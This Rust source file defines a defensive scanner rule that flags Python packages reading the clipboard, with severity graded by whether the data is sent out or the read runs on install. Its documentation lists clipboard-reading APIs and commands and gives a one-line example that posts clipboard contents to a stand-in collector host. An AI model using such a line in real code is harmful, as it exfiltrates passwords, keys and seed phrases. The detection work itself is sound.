use crate::python::names::Capture;
use crate::rules::declare_rule;
use crate::rules::helpers::clipboard::reads_clipboard_in_shell;

declare_rule! {
    /// Reads of the clipboard, graded by whether the package also sends
    /// data out and whether it runs without being called.
    ///
    /// ## What it finds
    /// Calls that read the clipboard — `pyperclip.paste`, tkinter's
    /// `clipboard_get`, `win32clipboard.GetClipboardData` and the Win32
    /// `GetClipboardData` through `ctypes`, `ImageGrab.grabclipboard`,
    /// `clipboard`/`xerox`/`pyclip`/`klembord` — and processes that print
    /// it (`pbpaste`, `xclip -o`, `xsel -o`, `wl-paste`, PowerShell
    /// `Get-Clipboard`).
    ///
    /// ## Why it matters
    /// What users copy is passwords from password managers, seed phrases,
    /// API keys and wallet addresses; stealers send it along with their
    /// loot. Clipboard access is also what every CLI with a `--paste`
    /// option and every editor does, so the capability alone is low. The
    /// severity comes from the chain:
    /// - a call that sends data in the same function, or the clipboard's
    ///   content demonstrably reaching one: high at runtime, critical when
    ///   the read runs on import, at install or at interpreter start;
    /// - a send elsewhere in the same file: medium at runtime, high when
    ///   the read runs by itself;
    /// - no send in the file: low at runtime, medium when it runs by
    ///   itself.
    ///
    /// Replacing wallet addresses on the clipboard is `AY804`.
    ///
    /// ## Example
    /// ```python
    /// import pyperclip, requests
    /// requests.post("https://collector.example/c", data={"clip": pyperclip.paste()})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1115 (Clipboard Data), T1041 (Exfiltration Over C2
    /// Channel).
    pub struct ClipboardCapture {
        id: "AY702",
        slug: "clipboard-capture",
        category: Collection,
        severity: Critical,
    }
}

capture_rule!(
    ClipboardCapture,
    Capture::Clipboard,
    "reads the clipboard",
    reads_clipboard_in_shell
);
